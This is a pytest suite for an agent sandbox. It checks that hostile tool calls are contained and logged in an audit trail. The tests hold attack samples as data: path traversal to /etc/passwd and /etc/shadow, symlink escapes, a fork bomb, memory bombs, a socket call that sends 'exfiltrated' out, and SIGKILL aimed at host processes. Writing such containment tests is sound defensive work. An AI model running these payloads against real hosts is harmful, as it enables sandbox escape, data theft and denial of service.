"""Hostile tool calls, under bubblewrap and under the fallback: each contained, each audited.

Every test drives a real SweEnv with an on-disk audit log and checks (1) what
the agent saw, (2) that the host is unharmed (files, processes, sockets), and
(3) that the audit chain verifies with one line per call and the expected
decision.
"""

import os
import signal
import socket
import subprocess
import sys
import threading
import time

import pytest

from agentic_rl.envs.audit import AuditLog, verify_audit_log
from agentic_rl.envs.swe_env import SweEnv
from agentic_rl.envs.swe_tasks import generate_task
from agentic_rl.envs.tool_call import format_tool_call as F
from tests.envs.conftest import env_config, live_pids_of_uid

TIMEOUT_S = 1.5


class Harness:
  def __init__(self, isolation, tmp_path, **overrides):
    self.audit = AuditLog(str(tmp_path / "audit.jsonl"))
    self.env = SweEnv(env_config(isolation, timeout_s=TIMEOUT_S, max_turns=50, **overrides),
                      self.audit)
    self.task = generate_task(11, "medium")  # python is on the medium allowlist
    self.env.reset(self.task)
    assert self.env._sandbox.isolation == isolation
    # Start the fork server outside the timed calls (not a tool call: not audited), so the
    # time bounds below measure the limits, not start-up on a busy host.
    warm = self.env._sandbox.request({"id": "warm", "kind": "python", "code": "pass"})
    assert warm.exit_code == 0, warm
    self.steps = 0

  def step(self, action):
    self.steps += 1
    return self.env.step(action)

  def python(self, code):
    return self.step(F("python", code=code))

  def healthy(self):
    r = self.step(F("test"))
    assert r.info["decision"] == "allowed", r.observation
    assert r.info["tests_passed"] == self.task.hidden_initial_passed, r.observation

  def finish(self):
    uid = self.env._sandbox.uid
    ws = self.env._sandbox.workspace.path
    self.env.close()
    self.audit.close()
    assert not os.path.exists(ws)
    if uid is not None:
      assert live_pids_of_uid(uid) == [], "sandbox processes outlived close()"
    v = verify_audit_log(self.audit.path)
    assert v.ok and v.sealed and v.lines == self.steps, v.message
    return v

  def decisions(self):
    return [e["decision"] for e in _entries(self.audit.path)]


def _entries(path):
  import json
  with open(path) as f:
    return [json.loads(line) for line in f]


@pytest.fixture
def h(isolation, tmp_path):
  harness = Harness(isolation, tmp_path)
  yield harness
  if not harness.env.done or harness.env._sandbox is not None:
    harness.env.close()


def test_path_traversal_is_refused(h, tmp_path):
  outside = tmp_path / "outside.txt"
  outside.write_text("host file")
  rel = os.path.relpath(outside, h.env._sandbox.workspace.path)
  for action in (F("view", path="../../../../etc/passwd"), F("view", path="/etc/shadow"),
                 F("view", path=rel),
                 F("replace", path=rel, start=1, end=1, text="pwned"),
                 F("replace", path="/etc/hostname", start=1, end=1, text="pwned")):
    r = h.step(action)
    assert r.info["decision"] == "denied" and "refused" in r.observation, r.observation
  assert outside.read_text() == "host file"
  h.healthy()
  h.finish()
  assert h.decisions() == ["denied"] * 5 + ["allowed"]


def test_symlink_escape_is_refused(h, tmp_path):
  secret = tmp_path / "secret.txt"
  secret.write_text("top secret")
  r = h.python(f"import os\nos.symlink({str(secret)!r}, 'leak.py')\nos.symlink('/', 'root')\n"
               f"os.symlink('..', 'up')\nos.symlink({h.task.module_path!r}, 'alias.py')\n"
               "print('linked')")
  assert "linked" in r.observation, r.observation
  for action in (F("view", path="leak.py"), F("view", path="root/etc/passwd"),
                 F("view", path="up"), F("replace", path="leak.py", start=1, end=1, text="x")):
    r = h.step(action)
    assert r.info["decision"] == "denied" and "symlink leads outside" in r.observation
    assert "top secret" not in r.observation
  r = h.step(F("view", path="alias.py"))  # A link that stays inside is fine.
  assert r.info["decision"] == "allowed" and "def " in r.observation
  assert secret.read_text() == "top secret"
  h.finish()
  assert h.decisions() == ["allowed"] + ["denied"] * 4 + ["allowed"]


def test_writing_outside_the_workspace_fails(h, isolation, tmp_path):
  ws = h.env._sandbox.workspace.path
  targets = [os.path.join(os.path.dirname(ws), "escape.txt"),  # Next to the workspace.
             str(tmp_path / "escape.txt"), "/etc/agentic_rl_escape", "/usr/agentic_rl_escape",
             os.path.join(os.path.dirname(os.path.abspath(__file__)), "escape.txt")]
  code = ("import os\nfor p in %r:\n"
          "    try:\n        open(p, 'w').write('x')\n        print('WROTE', p)\n"
          "    except OSError as e:\n        print('refused', p, e.strerror)\n") % (targets,)
  r = h.python(code)
  assert r.observation.count("refused") == len(targets), r.observation
  for t in targets:
    assert not os.path.exists(t)
  if isolation == "bubblewrap":  # /tmp is private there (the fallback shares the host's).
    name = f"/tmp/agentic_rl_escape_{os.getpid()}"
    r = h.python(f"open({name!r}, 'w').write('x'); print('ok')")
    assert "ok" in r.observation and not os.path.exists(name)
  h.healthy()
  h.finish()


def test_fork_bomb_is_contained(h):
  uid = h.env._sandbox.uid
  t0 = time.monotonic()
  r = h.python("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
               "        pass\n")
  elapsed = time.monotonic() - t0
  assert r.info["decision"] == "timeout" and "timeout" in r.observation, r.observation
  assert elapsed < TIMEOUT_S + 4.0
  if uid is not None:
    deadline = time.monotonic() + 2.0
    while time.monotonic() < deadline:  # Only the idle server may remain.
      if len(live_pids_of_uid(uid)) <= 3:
        break
      time.sleep(0.05)
    assert len(live_pids_of_uid(uid)) <= 3
  h.healthy()  # The next call runs normally: no process slots are left taken.
  h.finish()
  assert h.decisions() == ["timeout", "allowed"]


def test_escaped_background_processes_are_killed(h):
  uid = h.env._sandbox.uid
  idle = len(live_pids_of_uid(uid)) if uid is not None else 0  # The warm, idle server.
  # The parent waits until the child has left the process group, so it surely escaped.
  r = h.python("import os, time\nr, w = os.pipe()\nif os.fork() == 0:\n    os.setsid()\n"
               "    os.write(w, b'x')\n    time.sleep(60)\nos.read(r, 1)\nprint('parent done')")
  assert "parent done" in r.observation
  if uid is not None:  # The survivor died with its call (or, without per-call namespaces,
    assert len(live_pids_of_uid(uid)) <= idle  # made the run dirty and the sandbox went).
  h.healthy()
  h.finish()


def test_infinite_loops_time_out(h):
  t0 = time.monotonic()
  r = h.python("while True:\n    pass")
  assert r.info["decision"] == "timeout", r.observation
  assert time.monotonic() - t0 < TIMEOUT_S + 4.0
  # The same through the test runner: a loop injected into the module.
  fn_line = next(i for i, l in enumerate(h.task.files[h.task.module_path].split("\n"), 1)
                 if l.startswith("def "))
  h.step(F("replace", path=h.task.module_path, start=fn_line, end=fn_line - 1,
           text="while True:\n    pass"))
  r = h.step(F("test"))
  assert r.info["decision"] == "timeout" and "TIMEOUT" in r.observation, r.observation
  assert r.info["tests_passed"] == 0
  h.finish()
  entries = _entries(h.audit.path)
  assert [e["decision"] for e in entries] == ["timeout", "allowed", "timeout"]
  assert entries[1]["reason"] == "hidden test run: wall-clock timeout"  # The edit's own run.


def test_memory_bomb_fails_inside_the_limit(isolation, tmp_path):
  # One huge allocation, then growth (bytearray pages are mapped lazily, so the address-space
  # limit decides how fast it fails). A generous wall clock: on a loaded CI host the 1.5 s
  # timeout could fire first and hide whether the memory limit holds.
  h = Harness(isolation, tmp_path, sandbox__timeout_s=20.0)
  for code in ("x = bytearray(64 * 1024 ** 3)",
               "l = []\nwhile True:\n    l.append(bytearray(50 * 1024 ** 2))"):
    t0 = time.monotonic()
    r = h.python(code)
    assert "MemoryError" in r.observation, r.observation
    assert r.info["decision"] == "allowed" and time.monotonic() - t0 < 19.0
  h.healthy()
  h.finish()


def test_huge_output_is_bounded(h):
  for code in ("print('x' * 50_000_000)", "while True:\n    print('spam' * 100)"):
    t0 = time.monotonic()
    r = h.python(code)
    assert len(r.observation) <= h.env.config.max_observation_chars
    assert r.info["decision"] == "error" and "killed: wrote over" in r.observation
    assert time.monotonic() - t0 < TIMEOUT_S + 4.0
  entries = _entries(h.audit.path)
  assert all(e["output_bytes"] > h.env.config.sandbox.output_kill_bytes for e in entries)
  h.healthy()
  h.finish()


def test_network_is_unreachable(h):
  server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
  server.bind(("127.0.0.1", 0))
  server.listen(4)
  server.settimeout(0.2)
  port = server.getsockname()[1]
  accepted = []
  stop = threading.Event()

  def serve():
    while not stop.is_set():
      try:
        conn, _ = server.accept()
        accepted.append(conn.recv(100))
        conn.close()
      except OSError:
        pass

  t = threading.Thread(target=serve)
  t.start()
  try:
    r = h.python("import socket\nfor host in ('127.0.0.1', '8.8.8.8'):\n    try:\n"
                 f"        s = socket.create_connection((host, {port}), timeout=0.5)\n"
                 "        s.sendall(b'exfiltrated')\n        print('CONNECTED', host)\n"
                 "    except OSError as e:\n        print('no network', host, type(e).__name__)")
  finally:
    time.sleep(0.3)  # A connection that got through would be accepted by now.
    stop.set()
    t.join()
    server.close()
  assert accepted == [] and "CONNECTED" not in r.observation, r.observation
  assert r.observation.count("no network") == 2
  h.finish()


def test_signals_to_the_parent_do_not_reach_the_host(h, isolation):
  if isolation == "fallback" and h.env._sandbox.uid is None:
    pytest.skip("fallback without root runs as the host's uid: it cannot stop a signal to the "
                "host pid (bubblewrap can)")
  # A host process of the host's uid, outside the sandbox, that the agent is told the pid
  # of: it must outlive every signal below. (The test process itself cannot check its own
  # survival: were it killed, no assertion would run.)
  canary = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"],
                            start_new_session=True)
  try:
    # The narrowest attempt first, checked before anything broader is tried: were
    # signals to reach the host, the test stops here rather than at kill(-1).
    r = h.python(f"import os, signal\ntry:\n    os.kill({canary.pid}, signal.SIGKILL)\n"
                 "    print('sent')\nexcept OSError as e:\n    print('refused', type(e).__name__)")
    assert "refused" in r.observation and "sent" not in r.observation, r.observation
    assert canary.poll() is None, f"the host canary died: {canary.returncode}"
    host_pid = os.getpid()
    r = h.python(f"import os, signal\nfor pid in ({host_pid}, os.getppid()):\n    try:\n"
                 "        os.kill(pid, signal.SIGKILL)\n        print('sent', pid)\n"
                 "    except OSError as e:\n        print('refused', pid, type(e).__name__)")
    # The parent inside the sandbox (the fork server) may die; the host never does.
    assert "sent %d" % host_pid not in r.observation
    r = h.python("import os, signal\nos.kill(-1, signal.SIGKILL)")  # Everything we may signal.
    assert r.info["decision"] in ("error", "allowed")
    r = h.python("import os, signal\nos.killpg(os.getpgid(0), signal.SIGKILL)")
    time.sleep(0.2)  # A SIGKILL that got out is delivered by now.
    assert canary.poll() is None, f"the host canary died: {canary.returncode}"
  finally:
    canary.kill()
    canary.wait()
  h.healthy()
  v = h.finish()
  assert v.lines == 5


def test_file_size_and_cpu_limits_hold(isolation, tmp_path):
  # A long wall clock: RLIMIT_CPU, not the timeout, must end the loop below.
  h = Harness(isolation, tmp_path, sandbox__cpu_s=1, sandbox__file_size_mb=1,
              sandbox__timeout_s=60.0)
  r = h.python("f = open('big.bin', 'wb')\ntry:\n    f.write(b'x' * (4 << 20))\n    f.flush()\n"
               "except OSError as e:\n    print('refused', e.errno)\nimport os\n"
               "print('size', os.path.getsize('big.bin'))")
  assert "refused 27" in r.observation and "size 1048576" in r.observation, r.observation  # EFBIG
  t0 = time.monotonic()
  r = h.python("while True:\n    pass")
  assert r.info["decision"] == "allowed" and "exit code -" in r.observation, r.observation
  assert r.info["exit_code"] in (-signal.SIGXCPU, -signal.SIGKILL)
  assert time.monotonic() - t0 < 59.0
  h.healthy()
  h.finish()
